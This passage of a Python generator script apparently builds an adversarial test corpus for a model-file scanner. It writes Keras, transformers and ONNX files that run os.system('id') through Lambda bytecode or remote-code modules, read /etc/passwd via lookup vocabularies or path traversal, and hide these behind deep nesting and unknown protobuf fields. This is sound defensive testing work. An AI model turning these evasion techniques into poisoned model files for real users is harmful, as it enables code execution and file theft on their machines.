          c, load, "TFSMLayer with a relative path leaving the model folder", how)
    write("keras-code/stringlookup_abs_path.keras",
          keras_file(add(layer("StringLookup", {"name": "lk", "vocabulary": "/etc/passwd",
                                                "output_mode": "int"}))),
          c, load, "StringLookup reads its vocabulary from an absolute path", how)
    write("keras-code/stringlookup_url.keras",
          keras_file(add(layer("StringLookup", {"name": "lk", "vocabulary": URL + "vocab.txt"}))),
          c, load, "StringLookup vocabulary from a URL", how)
    write("keras-code/textvectorization_url.keras",
          keras_file(add(layer("TextVectorization", {"name": "tv", "vocabulary": URL + "v.txt",
                                                     "max_tokens": 10}))),
          c, load, "TextVectorization vocabulary from a URL", how)
    write("keras-code/integerlookup_abs_path.keras",
          keras_file(add(layer("IntegerLookup", {"name": "il", "vocabulary": "/etc/hostname"}))),
          c, load, "IntegerLookup reads its vocabulary from an absolute path", how)
    sources = {
        "posix_spawn": "import os\n\n\ndef _setup():\n    os.posix_spawn('/usr/bin/id', ['id'], {})\n",
        "asyncio_subprocess": "import asyncio\n\n\nasync def _setup():\n"
                              "    await asyncio.create_subprocess_exec('id')\n\n\n"
                              "asyncio.run(_setup())\n",
        "subprocess_alias": "import subprocess as sp\n\n\ndef _setup():\n    sp.run(['id'])\n",
        "from_os_system_as": "from os import system as s\n\n\ndef _setup():\n    s('id')\n",
        "pickle_loads": "import pickle\n\n\ndef _setup(blob):\n    return pickle.loads(blob)\n",
        "importlib_os": "import importlib\n\n\ndef _setup():\n"
                        "    importlib.import_module('os').system('id')\n",
    }
    for name, src in sources.items():
        folder = f"keras-code/remote_{name}"
        config = {"architectures": ["AdvModel"], "model_type": "adv",
                  "auto_map": {"AutoConfig": "modeling_adv.AdvConfig",
                               "AutoModel": "modeling_adv.AdvModel"}}
        modeling = (
            '"""A custom model (trust_remote_code)."""\n' + src +
            "\nfrom transformers import PretrainedConfig, PreTrainedModel\n\n\n"
            "class AdvConfig(PretrainedConfig):\n    model_type = 'adv'\n\n\n"
            "class AdvModel(PreTrainedModel):\n    config_class = AdvConfig\n\n"
            "    def __init__(self, config):\n        super().__init__(config)\n"
            "        _setup" + ("(b'')" if name == "pickle_loads" else "()") + "\n"
        )
        os.makedirs(os.path.join(OUT, folder), exist_ok=True)
        with open(os.path.join(OUT, folder, "config.json"), "w") as f:
            json.dump(config, f, indent=2)
        with open(os.path.join(OUT, folder, "modeling_adv.py"), "w") as f:
            f.write(modeling)
        record(folder + "/", c, "transformers AutoModel.from_pretrained(trust_remote_code=True)",
               f"modeling_adv.py runs code at model construction ({name})",
               "written as text (config.json + modeling_adv.py)")


# --- class 6: depth -----------------------------------------------------------------


def lambda_layer():
    """A Lambda layer's config as Keras itself serialises it. The layer is
    serialised on its own, never built or called, so its function never runs
    here (a Lambda inside a model is called on symbolic inputs when built)."""
    import keras

    lam = keras.layers.Lambda(lambda x: (__import__("os").system("id"), x)[1], name="lam")
    cfg = keras.saving.serialize_keras_object(lam)
    return json.loads(json.dumps(cfg, default=str))


def depth():
    c = "depth"
    load = "keras.saving.load_model(safe_mode=False)"
    lam = lambda_layer()

    def nest(levels):
        def edit(cfg):
            inner = lam
            for i in range(levels):
                inner = {"module": "keras", "class_name": "Sequential",
                         "config": {"name": f"s{i}", "trainable": True, "dtype": "float32",
                                    "layers": [inner]}, "registered_name": None}
            cfg["config"]["layers"].insert(1, inner)
        return edit

    def json_depth(o):
        if isinstance(o, dict):
            return 1 + max((json_depth(v) for v in o.values()), default=0)
        if isinstance(o, list):
            return 1 + max((json_depth(v) for v in o), default=0)
        return 0

    for levels in (50, 80):
        data = keras_file(nest(levels))
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            d = json_depth(json.loads(z.read("config.json")))
        assert d > 128, d
        write(f"depth/keras_lambda_nested_{levels}.keras", data, c, load,
              f"Lambda (bytecode runs os.system('id')) {d} JSON levels deep in nested Sequentials",
              "keras Model.save, then the Lambda config from keras.saving.serialize_keras_object "
              "wrapped in nested Sequential configs")

    def deep_junk(cfg):
        junk = []
        for _ in range(600):
            junk = [junk]
        cfg["compile_config"] = {"metrics": junk}
        cfg["config"]["layers"].insert(1, lam)

    write("depth/keras_lambda_after_deep_junk.keras", keras_file(deep_junk), c, load,
          "Lambda layer beside a 600-level nested list in compile_config (json accepts it)",
          "keras Model.save, config edited")

    def deep_args(cfg):
        junk = {"k": 1}
        for _ in range(300):
            junk = {"k": junk}
        lyr = json.loads(json.dumps(lam))
        lyr["config"]["arguments"] = {"deep": junk}
        cfg["config"]["layers"].insert(1, lyr)

    write("depth/keras_lambda_deep_arguments.keras", keras_file(deep_args), c, load,
          "Lambda whose arguments dict is 300 levels deep", "keras Model.save, config edited")
    onnx_depth()


def varint(n):
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def onnx_model(location):
    import onnx
    from onnx import TensorProto, helper

    w = TensorProto()
    w.name = "W"
    w.data_type = TensorProto.FLOAT
    w.dims.extend([4])
    w.data_location = TensorProto.EXTERNAL
    for k, v in (("location", location), ("offset", "0"), ("length", "16")):
        e = w.external_data.add()
        e.key, e.value = k, v
    node = helper.make_node("Add", ["X", "W"], ["Y"])
    graph = helper.make_graph(
        [node], "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [4])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [4])],
        initializer=[w],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    buf = io.BytesIO()
    onnx.save(model, buf)
    return buf.getvalue()


def onnx_depth():
    c = "depth"
    load = "onnx.load(load_external_data=True) / onnxruntime.InferenceSession"
    trav = "../../etc/passwd"
    base = onnx_model(trav)
    how = "onnx.save, then an unknown ModelProto field added by hand"
    write("depth/onnx_traversal_control.onnx", base, c, load,
          "external data location ../../etc/passwd, no unknown field (control for the others)",
          "onnx.save")
    write("depth/onnx_unknown_varint_tail.onnx", base + varint(99 << 3 | 0) + varint(1), c, load,
          "external data location ../../etc/passwd; unknown varint field 99 after the graph", how)
    blob = b"\x00" * 300
    write("depth/onnx_unknown_bytes_head.onnx",
          varint(98 << 3 | 2) + varint(len(blob)) + blob + base, c, load,
          "external data location ../../etc/passwd; unknown 300-byte field 98 first", how)
    group = varint(97 << 3 | 3) + varint(1 << 3 | 0) + varint(5) + varint(97 << 3 | 4)
    write("depth/onnx_unknown_group_head.onnx", group + base, c, load,
          "external data location ../../etc/passwd; unknown group field 97 (wire type 3) first",
          how)
    fixed = varint(96 << 3 | 1) + b"\x00" * 8 + varint(95 << 3 | 5) + b"\x00" * 4
    write("depth/onnx_unknown_fixed_head.onnx", fixed + onnx_model("/etc/passwd"), c, load,
          "external data location /etc/passwd; unknown fixed64 and fixed32 fields first", how)


# --- main -------------------------------------------------------------------------


def versions():
    out = [f"python {platform.python_version()}"]
    for p in ("numpy", "torch", "joblib", "keras", "onnx", "protobuf", "pandas", "setuptools"):
        try:
            out.append(f"{p} {md.version(p)}")
        except md.PackageNotFoundError:
            out.append(f"{p} -")
    return out


class Inert:
    """What every global becomes in check_written: calling, instantiating or
    setting state on it does nothing."""

    def __init__(self, *a, **k):
        pass

    def __call__(self, *a, **k):
        return Inert()

    def __setstate__(self, state):
        pass


class InertUnpickler(pickle.Unpickler):
    """CPython's C unpickler with every global resolved to Inert: no module is
    imported and no payload callable is ever reached."""

    def find_class(self, module, name):
        return Inert

    def persistent_load(self, pid):
        return Inert()


def check_written():
    """Parse what was written without running it: every .npy header with
    numpy's own header reader, and every .pkl's first stream with CPython's C
    unpickler whose globals are all Inert. A file the real loader would reject
    before reaching its payload fails here."""
    import numpy.lib.format as fmt

    for rel, *_ in ROWS:
        path = os.path.join(OUT, rel)
        if rel.endswith(".npy"):
            with open(path, "rb") as f:
                version = fmt.read_magic(f)
                assert version == (1, 0), (rel, version)
                _, _, dtype = fmt.read_array_header_1_0(f)
                assert dtype.hasobject, (rel, dtype)
        elif rel.endswith(".pkl"):
            with open(path, "rb") as f:
                try:
                    InertUnpickler(f).load()
                except Exception as e:
                    raise AssertionError(f"{rel}: {e}") from e


def main():
    if not os.path.isdir(os.path.join("crates", "modelvet-core")):
        sys.exit("run from the repository root")
    # Everything but KNOWN_MISSES.txt (kept by hand, read by the test) is rewritten.
    for cls in ("names", "gadgets", "sniffing", "differentials", "keras-code", "depth"):
        shutil.rmtree(os.path.join(OUT, cls), ignore_errors=True)
    os.makedirs(OUT, exist_ok=True)
    names()
    gadgets()
    sniffing()
    differentials()
    keras_code()
    depth()
    check_written()
    with open(os.path.join(OUT, "MANIFEST.tsv"), "w") as f:
        f.write("# Written by scripts/gen-adversarial.py with: " + ", ".join(versions()) + "\n")
        f.write("# file\tclass\tloader\twhen loaded\thow written\texpected\n")
        for row in sorted(ROWS):
            assert all("\t" not in x and "\n" not in x for x in row), row
            f.write("\t".join(row) + "\n")
    print(f"{len(ROWS)} entries in {OUT}/MANIFEST.tsv")


if __name__ == "__main__":
    main()
